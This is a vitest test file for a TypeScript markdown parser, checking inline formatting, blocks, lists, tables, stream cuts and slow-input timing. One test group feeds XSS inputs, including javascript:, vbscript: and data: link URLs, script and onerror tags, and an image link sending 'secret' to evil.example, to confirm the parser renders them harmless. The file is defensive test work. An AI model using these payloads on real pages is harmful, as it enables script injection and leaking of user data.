import { describe, expect, it } from "vitest";
import { type Block, readMarkdown } from "@/lib/markdown";
import { type Inline, readInline } from "@/lib/markdown-inline";

/** A short way to write down what was read. */
const brief = (inline: Inline[]): string =>
  inline
    .map((one) => {
      if (one.kind === "text") return one.text;
      if (one.kind === "code") return `<code ${one.text}>`;
      if (one.kind === "break") return "<br>";
      if (one.kind === "link") return `<a ${one.href} ${brief(one.children)}>`;
      return `<${one.kind} ${brief(one.children)}>`;
    })
    .join("");

const outline = (blocks: Block[]): unknown[] =>
  blocks.map((block) => {
    switch (block.kind) {
      case "paragraph":
        return brief(block.children);
      case "heading":
        return `h${block.level} ${brief(block.children)}`;
      case "code":
        return { [block.language || "code"]: block.text };
      case "list":
        return { [block.isOrdered ? `from ${block.start}` : "list"]: block.items.map(outline) };
      case "quote":
        return { quote: outline(block.children) };
      case "table":
        return { align: block.align, rows: [block.head, ...block.rows].map((row) => row.map(brief)) };
      default:
        return block.kind;
    }
  });

const read = (text: string) => outline(readMarkdown(text));

describe("within a line", () => {
  it.each([
    ["plain, with 2 * 3 * 4 and snake_case_name", "plain, with 2 * 3 * 4 and snake_case_name"],
    ["**bold** *em* __bold__ _em_ ~~gone~~", "<strong bold> <em em> <strong bold> <em em> <del gone>"],
    ["***both***", "<strong <em both>>"],
    ["**a *b* c**", "<strong a <em b> c>"],
    ["*a **b** c*", "<em a <strong b> c>"],
    ["`code *not em*` and ``a ` b``", "<code code *not em*> and <code a ` b>"],
    ["**a `**` b**", "<strong a <code **> b>"],
    ["unclosed **bold and `code", "unclosed **bold and `code"],
    ["\\*not em\\* \\[x](y)", "*not em* [x](y)"],
    ['[Torana](https://example.com/a_(b)?c=1 "title")', "<a https://example.com/a_(b)?c=1 Torana>"],
    ["[**bold**](https://a.b)", "<a https://a.b <strong bold>>"],
    [
      "see https://example.com/a_b_c. And <https://x.y/>",
      "see <a https://example.com/a_b_c https://example.com/a_b_c>. And <a https://x.y/ https://x.y/>",
    ],
    ["<ada@example.com>", "<a mailto:ada@example.com ada@example.com>"],
    ["xhttps://example.com", "xhttps://example.com"],
    ["one  \ntwo\nthree\\\nfour", "one<br>two\nthree<br>four"],
  ])("%s", (text, expected) => expect(brief(readInline(text))).toBe(expected));

  it.each([
    ["[x](javascript:alert(1))", "x"],
    ["[x](data:text/html,<script>)", "x"],
    ["[x](JaVaScRiPt:alert(1))", "x"],
    ["[x]( vbscript:x)", "x"],
    ["![pixel](https://evil.example/?q=secret)", "<a https://evil.example/?q=secret pixel>"],
    ["<script>alert(1)</script><img src=x onerror=alert(1)>", "<script>alert(1)</script><img src=x onerror=alert(1)>"],
    ["<javascript:alert(1)>", "<javascript:alert(1)>"],
  ])("nothing harmful comes of %s", (text, expected) => expect(brief(readInline(text))).toBe(expected));
});

describe("blocks", () => {
  it("are told apart", () => {
    expect(read("# One\n\ntext\nmore\n## Two ##\n---\n> a\n> > b\n\nend")).toEqual([
      "h1 One",
      "text\nmore",
      "h2 Two",
      "rule",
      { quote: ["a", { quote: ["b"] }] },
      "end",
    ]);
  });

  it("hold code as it is, also before it has ended", () => {
    expect(read("a\n```python\nif x:\n    **y**\n\n```\nb")).toEqual(["a", { python: "if x:\n    **y**\n" }, "b"]);
    expect(read("~~~\n```\n~~~")).toEqual([{ code: "```" }]);
    expect(read("```js\nlet a")).toEqual([{ js: "let a" }]);
    expect(read("````md\n```\n````")).toEqual([{ md: "```" }]);
  });

  it("are lists within lists, with all that may stand in an item", () => {
    expect(read("- a\n- b\n  - c\n    - d\n- e")).toEqual([
      { list: [["a"], ["b", { list: [["c", { list: [["d"]] }]] }], ["e"]] },
    ]);
    expect(read("3. a\n   ```sh\n   ls\n   ```\n4. b\n\n   second\n\n5. c")).toEqual([
      { "from 3": [["a", { sh: "ls" }], ["b", "second"], ["c"]] },
    ]);
    expect(read("- a\ngoes on\n\nafter")).toEqual([{ list: [["a\ngoes on"]] }, "after"]);
    expect(read("1. a\n- b")).toEqual([{ "from 1": [["a"]] }, { list: [["b"]] }]);
    expect(read("text\n- a")).toEqual(["text", { list: [["a"]] }]);
    expect(read("* a\n\n* b")).toEqual([{ list: [["a"], ["b"]] }]);
    expect(read("-\n- b")).toEqual([{ list: [[], ["b"]] }]);
    expect(read("1. a\n\n  - b")).toEqual([{ "from 1": [["a", { list: [["b"]] }]] }]);
  });

  it("are tables", () => {
    expect(read("| a | b |\n|:--|--:|\n| 1 | `x\\|y` |\n| 2 |\n\nend")).toEqual([
      {
        align: ["left", "right"],
        rows: [
          ["a", "b"],
          ["1", "<code x|y>"],
          ["2", ""],
        ],
      },
      "end",
    ]);
    expect(read("text\na | b\n--|--\n1 | 2")).toEqual([
      "text",
      {
        align: [null, null],
        rows: [
          ["a", "b"],
          ["1", "2"],
        ],
      },
    ]);
    expect(read("a | b\nc")).toEqual(["a | b\nc"]);
  });
});

/** What is read again and again takes ten times as long. */
const MOST_MS = 4000;

describe("whatever comes", () => {
  const hostile = [
    "*",
    "**a",
    "`",
    "[",
    "![",
    "[a](",
    "_a",
    "> ",
    "- ",
    "  - ",
    "|-",
    "```\n",
    "<h",
    "~~",
    "\\",
    "1. a\n",
    "* *a",
  ];

  it.each(hostile)("%j many times over is read at once", (piece) => {
    const began = performance.now();
    readMarkdown(piece.repeat(20_000));
    readMarkdown(`${piece.repeat(20_000)}](x)*\`**`);
    expect(performance.now() - began).toBeLessThan(MOST_MS);
  });

  it("no text is lost, at every cut of a stream", () => {
    const text =
      "# A\n\n- *b* `c`\n  1. d [e](https://f.g)\n\n> h | i\n\n| j | k |\n|---|---|\n| l | m |\n\n```x\nn\n```\n";
    for (let end = 0; end <= text.length; end += 1) {
      const shown = JSON.stringify(readMarkdown(text.slice(0, end)));
      for (const letter of text.slice(0, end).match(/[b-eh-mA](?![:.])/g) ?? []) expect(shown).toContain(letter);
    }
  });
});
